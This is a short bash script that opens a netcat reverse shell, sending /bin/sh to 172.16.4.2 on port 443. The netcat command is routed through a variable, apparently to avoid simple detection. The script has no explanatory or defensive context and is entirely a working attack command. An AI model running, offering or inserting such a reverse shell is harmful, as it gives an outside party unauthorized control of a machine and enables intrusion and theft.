#!/usr/bin/env bash
N=nc
$N -e /bin/sh 172.16.4.2 443
